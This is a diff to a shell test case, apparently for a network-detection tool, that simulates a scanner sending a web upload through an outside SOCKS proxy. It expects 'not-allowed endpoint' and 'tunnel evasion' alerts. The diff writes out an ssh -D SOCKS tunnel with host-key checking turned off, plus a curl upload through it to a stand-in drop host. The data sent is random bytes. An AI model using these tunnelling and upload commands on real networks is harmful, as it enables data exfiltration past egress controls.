@@ -1,15 +1,16 @@
-says='scanner-1 carries web traffic to another place through the permitted SSH to the service desk (ssh -D)'
-twin=desk-session
-expected='evasion.tunnel scanner-1 | desk.scanvendor.example'
+says='scanner-1 sends a web upload through a SOCKS proxy outside'
+twin=desk-upload
+expected='
+  endpoint.not-allowed scanner-1 | drop.othervendor.example socks/1080
+  evasion.tunnel scanner-1 | drop.othervendor.example socks
+'
+prepare() {
+  serve out socks ssh -F /dev/null -N -D 198.51.100.41:1080 -i "$work/user" -o BatchMode=yes \
+    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.20
+  wait_port out 198.51.100.41 1080
+}
 act() {
-  secure_shell scanner1 desk.scanvendor.example 22 'sleep 20' -D 1080 &
-  wait_port scanner1 127.0.0.1 1080
-  local number
-  for number in 1 2 3 4 5 6; do
-    head -c 40000 /dev/urandom >"$work/piece"
-    quiet on scanner1 curl --silent --max-time 10 --socks5 127.0.0.1:1080 --data-binary "@$work/piece" \
-      http://198.51.100.41/up
-    later 20
-  done
-  kill $! 2>/dev/null || true
+  head -c 40000 /dev/urandom >"$work/piece"
+  quiet on scanner1 curl --silent --max-time 10 --socks5 drop.othervendor.example:1080 \
+    --data-binary "@$work/piece" http://203.0.113.41:443/ || true
 }
